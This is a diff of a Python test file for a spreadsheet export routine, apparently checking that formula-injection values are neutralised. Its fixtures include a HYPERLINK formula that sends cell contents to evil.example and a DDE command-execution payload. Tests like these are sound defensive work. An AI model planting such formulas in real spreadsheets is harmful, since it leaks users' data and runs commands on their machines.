@@ -13,19 +13,15 @@ from pathlib import Path
 
 import openpyxl
 import pytest
-from hostile_helpers import fill, mounted_tmpfs
+from hostile_helpers import fill, mounted_tmpfs, tsqe
 from sqlalchemy import select
-from typer.testing import CliRunner
 
-from cli.main import _register_commands, app
 from store import open_database
 from store.models import Category, Item, Output, Phenomenon, QEScore, Rule, System
 from suite.importers.result import Problems
 from suite.importers.tables import read_table
 from suite.safe_export import FORMULA_STARTS, from_spreadsheet, spreadsheet_text
 from suite.tables import Cell, Column, Table, render
-
-_register_commands()
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 CALC = "=cmd|' /C calc'!A0"
@@ -40,11 +36,6 @@ HOSTILE_OUTPUTS = ("item_id\tsystem\toutput\n"
                    "x-02\t-2+3\tThe lock.\n"
                    "x-03\t=1+1\t-0.5\n"
                    "x-03\t-2+3\tThe dog.\n")
-
-
-def tsqe(db: Path, *args: str) -> tuple[int, str]:
-    result = CliRunner().invoke(app, ["--db", str(db), *args])
-    return result.exit_code, result.stderr
 
 
 @pytest.fixture
